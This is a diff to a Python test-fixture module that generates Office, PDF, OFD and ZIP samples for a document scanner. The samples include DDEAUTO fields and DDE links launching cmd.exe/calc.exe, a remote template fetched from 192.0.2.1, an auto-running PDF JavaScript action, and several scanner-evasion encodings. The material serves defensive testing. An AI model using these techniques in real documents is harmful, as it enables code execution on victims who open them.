@@ -15,16 +15,24 @@ import zipfile
 import zlib
 
 __all__ = [
+    "DDE_INSTRUCTION",
     "cfb",
     "doc",
+    "doc_with_dde",
     "docm",
     "docx",
     "docx_with_activex",
+    "docx_with_alt_chunk",
+    "docx_with_external_template",
+    "docx_with_field",
     "exe",
     "gif",
     "html",
     "jpeg",
+    "ofd",
+    "ofd_opening_a_web_page",
     "pdf",
+    "pdf_opening_with_javascript",
     "pdf_with_catalog_entry",
     "pdf_with_javascript",
     "pdf_with_open_action",
@@ -32,15 +40,19 @@ __all__ = [
     "png",
     "text",
     "xls",
+    "xls_with_dde_link",
     "xls_with_macro_sheet",
     "xls_with_macros",
+    "xls_with_workbook_link",
     "xlsx",
+    "xlsx_with_dde_link",
     "zip_bomb",
     "zip_lying_about_size",
     "zip_many_members",
     "zip_nested",
     "zip_of",
     "zip_ratio_bomb",
+    "zip_with_legacy_names",
 ]
 
 
@@ -172,12 +184,14 @@ def pdf_with_page_content(content: bytes) -> bytes:
     return pdf(content=content)
 
 
-def pdf_with_javascript(hex_escaped: bool = False, *, in_object_stream: bool = False) -> bytes:
+def pdf_with_javascript(
+    hex_escaped: bool = False, *, in_object_stream: bool = False, stream_filter: str = "flate"
+) -> bytes:
     """A PDF that runs JavaScript when opened (a document-level script in the /Names tree).
 
     hex_escaped writes the names as /J#61vaScript and /J#53; in_object_stream puts the name
-    tree and the script in a compressed object stream (PDF 1.5, with a cross-reference
-    stream), where only inflating finds them.
+    tree and the script in an object stream (PDF 1.5, with a cross-reference stream), encoded
+    with stream_filter (see `_pdf_compressed`).
     """
     js_key, js = (b"/J#61vaScript", b"/J#53") if hex_escaped else (b"/JavaScript", b"/JS")
     # Objects 6 and 7, or 7 and 8 when object 6 is the object stream that holds them.
@@ -194,12 +208,49 @@ def pdf_with_javascript(hex_escaped: bool = False, *, in_object_stream: bool = F
     ]
     if not in_object_stream:
         return _pdf([*objects, tree, action])
-    return _pdf_compressed(objects, packed=[tree, action])
+    return _pdf_compressed(objects, packed=[tree, action], stream_filter=stream_filter)
 
 
-def _pdf_compressed(objects: list[bytes], *, packed: list[bytes]) -> bytes:
+def pdf_opening_with_javascript(stream_filter: str = "none", *, listed: bool = True) -> bytes:
+    """A PDF whose /OpenAction runs JavaScript, the action packed in an object stream.
+
+    stream_filter encodes the object stream (see `_pdf_compressed`); listed=False leaves the
+    packed object out of the cross-reference stream, where a forgiving reader still finds it.
+    """
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        _stream(zlib.compress(_PAGE_TEXT), b" /Filter /FlateDecode"),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    action = b"<< /S /JavaScript /JS (app.launchURL\\('http://example.com/'\\);) >>"
+    return _pdf_compressed(objects, packed=[action], stream_filter=stream_filter, listed=listed)
+
+
+_STREAM_FILTERS = {
+    "none": (lambda data: data, b""),
+    "flate": (zlib.compress, b" /Filter /FlateDecode"),
+    "hex": (lambda data: data.hex().encode() + b">", b" /Filter /ASCIIHexDecode"),
+    "a85+flate": (
+        lambda data: base64.a85encode(zlib.compress(data)) + b"~>",
+        b" /Filter [/ASCII85Decode /FlateDecode]",
+    ),
+}
+
+
+def _pdf_compressed(
+    objects: list[bytes], *, packed: list[bytes], stream_filter: str = "flate", listed: bool = True
+) -> bytes:
     """PDF 1.5: objects 1..n plain, then one object stream holding `packed` (numbered on from
-    n + 2), then a cross-reference stream."""
+    n + 2), then a cross-reference stream.
+
+    stream_filter: "flate" (as writers do), "none" (allowed by the standard: the objects lie
+    readable in the stream), "hex" or "a85+flate"; listed=False leaves the packed objects out
+    of the cross-reference stream.
+    """
+    encode, filter_entry = _STREAM_FILTERS[stream_filter]
     n = len(objects)
     first_packed = n + 2
     header, body = b"", b""
@@ -207,8 +258,8 @@ def _pdf_compressed(objects: list[bytes], *, packed: list[bytes]) -> bytes:
         header += b"%d %d " % (first_packed + i, len(body))
         body += obj + b"\n"
     objstm = _stream(
-        zlib.compress(header + body),
-        b" /Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header)),
+        encode(header + body),
+        b" /Type /ObjStm /N %d /First %d" % (len(packed), len(header)) + filter_entry,
     )
     out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
     offsets = []
@@ -218,7 +269,10 @@ def _pdf_compressed(objects: list[bytes], *, packed: list[bytes]) -> bytes:
     xref_number = first_packed + len(packed)
     rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
     rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
-    rows += [struct.pack(">BIH", 2, n + 1, i) for i in range(len(packed))]
+    rows += [
+        struct.pack(">BIH", 2, n + 1, i) if listed else struct.pack(">BIH", 0, 0, 0xFFFF)
+        for i in range(len(packed))
+    ]
     xref_offset = len(out)
     rows.append(struct.pack(">BIH", 1, xref_offset, 0))
     data = zlib.compress(b"".join(rows))
@@ -297,6 +351,110 @@ def docx_with_activex() -> bytes:
         replace={},
         add={"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00" * 8},
     )
+
+
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def docx_with_field(instruction: str, *, simple: bool = False, pieces: int = 1) -> bytes:
+    """A Word document (python-docx) with a field: a w:fldSimple, or the instruction cut in
+    `pieces` w:instrText runs between fldChar begin, separate and end, as Word writes it."""
+    import docx as python_docx  # imported here: other apps' tests load this module too
+    from docx.oxml import parse_xml
+
+    document = python_docx.Document()
+    paragraph = document.add_paragraph("巡视组工作底稿")._p
+    if simple:
+        paragraph.append(
+            parse_xml(
+                f"<w:fldSimple {_W} w:instr={_xml_attribute(instruction)}>"
+                "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
+            )
+        )
+    else:
+        size = -(-len(instruction) // pieces)
+        cut = [instruction[i : i + size] for i in range(0, len(instruction), size)]
+        runs = [f'<w:r {_W}><w:fldChar w:fldCharType="begin"/></w:r>']
+        runs += [
+            f'<w:r {_W}><w:instrText xml:space="preserve">{_xml_text(part)}</w:instrText></w:r>'
+            for part in cut
+        ]
+        runs += [
+            f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>',
+            f"<w:r {_W}><w:t>1</w:t></w:r>",
+            f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>',
+        ]
+        for run in runs:
+            paragraph.append(parse_xml(run))
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _xml_text(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def _xml_attribute(text: str) -> str:
+    return '"' + _xml_text(text).replace('"', "&quot;") + '"'
+
+
+DDE_INSTRUCTION = ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '
+
+
+def docx_with_external_template(*, quote: str = '"') -> bytes:
+    """A Word document whose settings attach a template from the network (a relationship with
+    TargetMode External), its attributes in the given quotes."""
+    plain = docx()
+    with zipfile.ZipFile(io.BytesIO(plain)) as z:
+        settings = z.read("word/settings.xml")
+    settings = settings.replace(
+        b"<w:defaultTabStop",
+        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships" r:id="rId1"/><w:defaultTabStop',
+        1,
+    )
+    q = quote
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"<Relationship Id={q}rId1{q} Type={q}http://schemas.openxmlformats.org/officeDocument/"
+        f"2006/relationships/attachedTemplate{q} Target={q}http://192.0.2.1/t.dotm{q} "
+        f"TargetMode={q}External{q}/></Relationships>"
+    ).encode()
+    return _rewrite_zip(
+        plain,
+        replace={"word/settings.xml": settings},
+        add={"word/_rels/settings.xml.rels": rels},
+    )
+
+
+def docx_with_alt_chunk() -> bytes:
+    """A Word document that imports an RTF part when it opens (w:altChunk)."""
+    plain = docx()
+    with zipfile.ZipFile(io.BytesIO(plain)) as z:
+        rels = z.read("word/_rels/document.xml.rels")
+    rels = rels.replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/aFChunk" Target="chunk.rtf"/></Relationships>',
+    )
+    return _rewrite_zip(
+        plain,
+        replace={"word/_rels/document.xml.rels": rels},
+        add={"word/chunk.rtf": b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}"},
+    )
+
+
+def xlsx_with_dde_link() -> bytes:
+    """An Excel workbook with an external link to another program by DDE."""
+    link = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
+        b'<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
+    )
+    return _rewrite_zip(xlsx(), replace={}, add={"xl/externalLinks/externalLink1.xml": link})
 
 
 # --- old Office (a minimal compound file writer; olefile only reads) --------------------------
@@ -418,12 +576,18 @@ def _biff(*records: tuple[int, bytes]) -> bytes:
     return b"".join(struct.pack("<HH", rtype, len(body)) + body for rtype, body in records)
 
 
-def _workbook_stream(*, macro_sheet: bool = False) -> bytes:
+def _workbook_stream(*, macro_sheet: bool = False, links: tuple[bytes, ...] = ()) -> bytes:
     bof = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
     sheets = [(0x0085, struct.pack("<IBB", 0, 0, 0) + b"\x06\x00Sheet1")]
     if macro_sheet:
         sheets.append((0x0085, struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1"))
-    return _biff(bof, *sheets, (0x000A, b""))
+    supbooks = [(0x01AE, link) for link in links]
+    return _biff(bof, *sheets, *supbooks, (0x000A, b""))
+
+
+def _supbook(sheets: int, path: str) -> bytes:
+    """A SUPBOOK record's body: sheet count, path length, flags (UTF-16), path."""
+    return struct.pack("<HHB", sheets, len(path), 1) + path.encode("utf-16-le")
 
 
 def xls() -> bytes:
@@ -443,14 +607,107 @@ def xls_with_macros() -> bytes:
     )
 
 
+def xls_with_dde_link() -> bytes:
+    """An old Excel workbook linked by DDE to a program: a SUPBOOK of no sheets whose path
+    names the program and the topic; beside it the usual SUPBOOK of the workbook itself."""
+    itself = struct.pack("<HH", 1, 0x0401)
+    return cfb({"Workbook": _workbook_stream(links=(itself, _supbook(0, "cmd\x03/c calc.exe")))})
+
+
+def xls_with_workbook_link() -> bytes:
+    """An old Excel workbook whose formulas read a sheet of another workbook (allowed)."""
+    path = "\x01\x01D:\\台账\\2025年.xls"
+    return cfb({"Workbook": _workbook_stream(links=(_supbook(1, path) + b"\x06\x00\x00Sheet1",))})
+
+
 def xls_with_macro_sheet() -> bytes:
     """An Excel 4.0 macro sheet (XLM): no VBA storage, only a BOUNDSHEET of type macro."""
     return cfb({"Workbook": _workbook_stream(macro_sheet=True)})
 
 
-def doc() -> bytes:
-    """A compound file with a WordDocument stream."""
-    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "1Table": b"\x00" * 16})
+def doc(text: str = "巡视组工作底稿", *, wide: bool = True) -> bytes:
+    """A compound file with a WordDocument stream whose text (after a short header) is stored
+    in UTF-16, or as single bytes (Word's "compressed" text) when wide is False."""
+    body = text.encode("utf-16-le") if wide else text.encode("cp1252")
+    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30 + body, "1Table": b"\x00" * 16})
+
+
+def doc_with_dde(*, wide: bool = True) -> bytes:
+    """An old Word file whose text holds a DDEAUTO field (0x13 instruction 0x14 result 0x15)."""
+    return doc("Report \x13" + DDE_INSTRUCTION + "\x141\x15 end", wide=wide)
+
+
+# --- OFD (GB/T 33190) -------------------------------------------------------------------------
+
+_OFD_NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'
+
+
+def ofd(
+    *,
+    author: str = "县纪委办公室 张某",
+    actions: str = "",
+    extra: dict[str, bytes] | None = None,
+    picture: bytes | None = None,
+) -> bytes:
+    """A minimal one-page OFD: OFD.xml (DocInfo with an author and a creator), the document,
+    its public resources, one page with a line of text; actions are put in Document.xml's
+    <ofd:Actions>, extra members are added as they are, picture is a Res/ image on the page."""
+    ofd_xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {_OFD_NS} Version="1.0" DocType="OFD">'
+        "<ofd:DocBody><ofd:DocInfo><ofd:DocID>0c8a9d4e1f2b4c6d8e0f1a2b3c4d5e6f</ofd:DocID>"
+        f"<ofd:Title>巡视工作通知</ofd:Title><ofd:Author>{author}</ofd:Author>"
+        "<ofd:CreationDate>2026-03-01</ofd:CreationDate>"
+        "<ofd:Creator>数科OFD版式办公套件</ofd:Creator><ofd:CreatorVersion>3.0.21.0301"
+        '</ofd:CreatorVersion><ofd:CustomDatas><ofd:CustomData Name="终端">PC-ZHANG-01'
+        "</ofd:CustomData></ofd:CustomDatas></ofd:DocInfo>"
+        "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
+    )
+    document = (
+        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document {_OFD_NS}><ofd:CommonData>'
+        "<ofd:MaxUnitID>10</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297"
+        "</ofd:PhysicalBox></ofd:PageArea><ofd:PublicRes>PublicRes.xml</ofd:PublicRes>"
+        '</ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/>'
+        f"</ofd:Pages>{actions}</ofd:Document>"
+    )
+    resources = (
+        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Res {_OFD_NS} BaseLoc="Res">'
+        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体" FamilyName="宋体"/></ofd:Fonts>'
+        + (
+            '<ofd:MultiMedias><ofd:MultiMedia ID="3" Type="Image">'
+            "<ofd:MediaFile>image_3.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>"
+            if picture
+            else ""
+        )
+        + "</ofd:Res>"
+    )
+    page = (
+        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Page {_OFD_NS}><ofd:Content><ofd:Layer ID="4">'
+        '<ofd:TextObject ID="5" Boundary="20 20 170 10" Font="2" Size="5">'
+        '<ofd:TextCode X="0" Y="5">巡视组工作通知</ofd:TextCode></ofd:TextObject>'
+        + (
+            '<ofd:ImageObject ID="6" Boundary="20 40 20 20" CTM="20 0 0 20 0 0" ResourceID="3"/>'
+            if picture
+            else ""
+        )
+        + "</ofd:Layer></ofd:Content></ofd:Page>"
+    )
+    members = {
+        "OFD.xml": ofd_xml.encode(),
+        "Doc_0/Document.xml": document.encode(),
+        "Doc_0/PublicRes.xml": resources.encode(),
+        "Doc_0/Pages/Page_0/Content.xml": page.encode(),
+    }
+    if picture:
+        members["Doc_0/Res/image_3.png"] = picture
+    return zip_of({**members, **(extra or {})})
+
+
+def ofd_opening_a_web_page() -> bytes:
+    """An OFD that opens a web address as soon as the document is opened (Event DO)."""
+    return ofd(
+        actions='<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://192.0.2.1/x"/>'
+        "</ofd:Action></ofd:Actions>"
+    )
 
 
 # --- ZIP --------------------------------------------------------------------------------------
@@ -462,6 +719,20 @@ def zip_of(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> 
         for name, body in members.items():
             z.writestr(name, body)
     return out.getvalue()
+
+
+def zip_with_legacy_names(members: dict[str, bytes], *, encoding: str = "gbk") -> bytes:
+    """A ZIP whose member names are written in `encoding` without the UTF-8 flag, as Chinese
+    Windows (Explorer, WinRAR, 360压缩) writes them."""
+    placeholders = {
+        f"m{i}".ljust(len(name.encode(encoding)), "_"): name for i, name in enumerate(members)
+    }
+    data = zip_of({p: members[name] for p, name in placeholders.items()})
+    for placeholder, name in placeholders.items():
+        raw = name.encode(encoding)
+        assert data.count(placeholder.encode()) == 2  # the local header and the directory
+        data = data.replace(placeholder.encode(), raw)
+    return data
 
 
 @functools.cache
